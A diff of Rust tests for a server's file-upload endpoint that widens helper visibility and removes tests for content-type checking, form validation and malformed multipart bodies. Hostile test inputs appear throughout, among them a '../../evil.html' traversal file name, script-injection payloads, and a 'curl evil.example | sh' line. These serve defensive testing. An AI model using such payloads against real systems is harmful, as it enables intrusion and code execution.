@@ -20,42 +20,42 @@ use types::PlayerId;
 
 use crate::world::{Answer, World, read};
 
-const CHAT_LIMIT: usize = 15_728_640;
+pub(crate) const CHAT_LIMIT: usize = 15_728_640;
 const TOO_LARGE: &str = "File size cannot exceed 10MB";
 
-fn png(colour: [u8; 3]) -> Vec<u8> {
+pub(crate) fn png(colour: [u8; 3]) -> Vec<u8> {
     let mut png = Cursor::new(Vec::new());
     RgbImage::from_pixel(64, 48, Rgb(colour)).write_to(&mut png, ImageFormat::Png).unwrap();
     png.into_inner()
 }
 
-fn jpeg_of(size: usize) -> Vec<u8> {
+pub(crate) fn jpeg_of(size: usize) -> Vec<u8> {
     let mut jpeg = vec![0; size];
     jpeg[..4].copy_from_slice(b"\xff\xd8\xff\xe0");
     jpeg
 }
 
-struct Uploader<'a> {
+pub(crate) struct Uploader<'a> {
     world: &'a World,
-    id: PlayerId,
+    pub(crate) id: PlayerId,
     token: String,
 }
 
 impl<'a> Uploader<'a> {
-    fn of(world: &'a World) -> Self {
+    pub(crate) fn of(world: &'a World) -> Self {
         let (id, token) = world.tokens.player();
         Self { world, id, token }
     }
 
-    fn upload(&self) -> RequestBuilder {
+    pub(crate) fn upload(&self) -> RequestBuilder {
         self.world.call("POST", "/api/upload").bearer_auth(&self.token)
     }
 
-    async fn send(&self, form: Form) -> Answer {
+    pub(crate) async fn send(&self, form: Form) -> Answer {
         read(self.upload().multipart(form)).await
     }
 
-    async fn send_picture(&self, file: Vec<u8>) -> Answer {
+    pub(crate) async fn send_picture(&self, file: Vec<u8>) -> Answer {
         let form = Form::new()
             .part("file", Part::bytes(file).file_name("me.png"))
             .text("id", self.id.to_string())
@@ -63,7 +63,7 @@ impl<'a> Uploader<'a> {
         self.send(form).await
     }
 
-    async fn send_to_chat(&self, file: Vec<u8>) -> Answer {
+    pub(crate) async fn send_to_chat(&self, file: Vec<u8>) -> Answer {
         let part = Part::bytes(file).file_name("../../evil.html").mime_str("text/html").unwrap();
         let form =
             Form::new().text("type", "CHAT_MEDIA").text("id", "placeholder").part("file", part);
@@ -71,18 +71,18 @@ impl<'a> Uploader<'a> {
     }
 
     /// Sends a body as a form, unchanged.
-    async fn send_raw(&self, body: impl Into<reqwest::Body>) -> Answer {
+    pub(crate) async fn send_raw(&self, body: impl Into<reqwest::Body>) -> Answer {
         let content_type = "multipart/form-data; boundary=b";
         read(self.upload().header("content-type", content_type).body(body)).await
     }
 }
 
-fn url(answer: &Answer) -> String {
+pub(crate) fn url(answer: &Answer) -> String {
     answer.payload()["url"].as_str().unwrap().to_owned()
 }
 
 /// The number of stored files, without the one that every world has.
-fn stored(world: &World) -> usize {
+pub(crate) fn stored(world: &World) -> usize {
     let mut folders = vec![world.media.clone()];
     let mut files = 0;
     while let Some(folder) = folders.pop() {
@@ -194,49 +194,6 @@ async fn a_refusal_of_svc_auth_is_passed_on() {
 }
 
 #[tokio::test]
-async fn chat_media_are_stored_unchanged_with_the_type_of_their_first_bytes() {
-    let world = World::new().await;
-    let amina = Uploader::of(&world);
-    let gif = b"GIF89a/*<script>alert(1)</script>*/=1;alert(2)".to_vec();
-    for (file, extension, content_type) in [
-        (png([5, 6, 7]), "png", "image/png"),
-        (gif, "gif", "image/gif"),
-        (b"\0\0\0\x18ftypisom\0\0\0\0 and a film".to_vec(), "mp4", "video/mp4"),
-        (b"ID3\x04\0 and a song".to_vec(), "mp3", "audio/mpeg"),
-        (b"%PDF-1.7 <script>".to_vec(), "pdf", "application/pdf"),
-        (b"Njoo saa kumi.".to_vec(), "txt", "text/plain; charset=utf-8"),
-    ] {
-        let url = url(&amina.send_to_chat(file.clone()).await);
-        let begin = format!("/media/chat/{}/", amina.id);
-        assert!(url.starts_with(&begin) && url.ends_with(&format!(".{extension}")), "{url}");
-        let answer = read(world.get(&url)).await;
-        assert_eq!(answer.header("content-type"), Some(content_type));
-        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
-        assert_eq!(answer.body, file);
-    }
-    assert!(world.stub.received::<SetProfilePictureRequest>().is_empty());
-}
-
-#[tokio::test]
-async fn files_that_could_be_executed_are_refused() {
-    let world = World::new().await;
-    let amina = Uploader::of(&world);
-    for file in [
-        &b"<!DOCTYPE html><script>alert(1)</script>"[..],
-        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
-        b"<?xml version=\"1.0\"?><x/>",
-        b"#!/bin/sh\ncurl evil.example | sh\n",
-        b"\x7fELF\x02\x01\x01 and so on, at some length, as programs are wont to be",
-        b"MZ\x90\0 a program",
-        b"\x01\x02\x03\x04 nothing known",
-    ] {
-        let answer = amina.send_to_chat(file.to_vec()).await;
-        assert_eq!(answer.refusal(), (415, "UNSUPPORTED_MEDIA".into()));
-    }
-    assert_eq!(stored(&world), 0);
-}
-
-#[tokio::test]
 async fn a_file_over_the_limit_is_refused_and_one_at_it_is_not() {
     let world = World::new().await;
     let amina = Uploader::of(&world);
@@ -251,84 +208,6 @@ async fn a_file_over_the_limit_is_refused_and_one_at_it_is_not() {
         assert_eq!(answer.envelope()["statusMessage"], TOO_LARGE);
     }
     assert_eq!(stored(&world), 1);
-}
-
-#[tokio::test]
-async fn a_form_with_a_field_twice_is_refused() {
-    let world = World::new().await;
-    let amina = Uploader::of(&world);
-    let part = || Part::bytes(png([1; 3]));
-    let own = amina.id.to_string();
-    let form =
-        || Form::new().part("file", part()).text("id", own.clone()).text("type", "CHAT_MEDIA");
-    for (form, field) in [
-        (form().part("file", part()), "file"),
-        (form().text("id", "another"), "id"),
-        (form().text("type", "PROFILE_PICTURE"), "type"),
-    ] {
-        let answer = amina.send(form).await;
-        assert_eq!(answer.refusal(), (400, "INVALID_ARGUMENT".into()), "{field}");
-        assert_eq!(answer.wrong_fields(), [field]);
-    }
-    assert_eq!(stored(&world), 0);
-}
-
-#[tokio::test]
-async fn a_refusal_names_the_field_that_is_missing_or_wrong() {
-    let world = World::new().await;
-    let amina = Uploader::of(&world);
-    let own = amina.id.to_string();
-    let file = || Form::new().part("file", Part::bytes(png([1; 3]))).text("id", own.clone());
-    for (form, field) in [
-        (Form::new().text("id", own.clone()), "file"),
-        (Form::new().text("id", own.clone()).part("file", Part::bytes(Vec::new())), "file"),
-        (file().text("type", "EVERYTHING"), "type"),
-        (file().part("type", Part::bytes(vec![0xff])), "type"),
-        (file().text("type", "x".repeat(300)), "type"),
-    ] {
-        let answer = amina.send(form).await;
-        assert_eq!(answer.refusal(), (400, "INVALID_ARGUMENT".into()), "{field}");
-        assert_eq!(answer.wrong_fields(), [field]);
-    }
-}
-
-#[tokio::test]
-async fn an_unknown_part_is_skipped_at_any_length() {
-    let world = World::new().await;
-    let amina = Uploader::of(&world);
-    let form = Form::new()
-        .part("thumbnail", Part::bytes(jpeg_of(1_000_000)))
-        .text("type", "CHAT_MEDIA")
-        .part("file", Part::bytes(png([1; 3])));
-    assert_eq!(amina.send(form).await.status, 200);
-}
-
-#[tokio::test]
-async fn a_malformed_form_is_refused() {
-    let world = World::new().await;
-    let amina = Uploader::of(&world);
-    let part = "--b\r\ncontent-disposition: form-data; name=\"file\"\r\n\r\nx";
-    let many = format!("{}--b--", "--b\r\ncontent-disposition: form-data\r\n\r\n\r\n".repeat(20));
-    for body in ["", "--", "nonsense", part, &format!("{part}\r\n--b"), &many] {
-        let answer = amina.send_raw(body.to_owned()).await;
-        assert_eq!(answer.refusal(), (400, "MALFORMED_FORM".into()), "{body}");
-    }
-    // A body without a part, and heads of parts without an end.
-    for begin in ["", "--b\r\nx: ", &format!("{part}\r\n--b\r\nx: ")] {
-        let answer = amina.send_raw(format!("{begin}{}", "x".repeat(CHAT_LIMIT))).await;
-        assert_eq!(answer.refusal(), (400, "MALFORMED_FORM".into()), "{begin}");
-    }
-
-    let with = |content_type: &str| amina.upload().header("content-type", content_type).body("x");
-    for (content_type, refusal) in [
-        ("multipart/form-data", (400, "MALFORMED_FORM")),
-        ("application/json", (415, "UNSUPPORTED_MEDIA")),
-        ("nonsense", (415, "UNSUPPORTED_MEDIA")),
-    ] {
-        let answer = read(with(content_type)).await;
-        assert_eq!(answer.refusal(), (refusal.0, refusal.1.to_owned()), "{content_type}");
-    }
-    assert_eq!(read(amina.upload()).await.refusal(), (415, "UNSUPPORTED_MEDIA".into()));
 }
 
 /// The beginning of a form with a file.
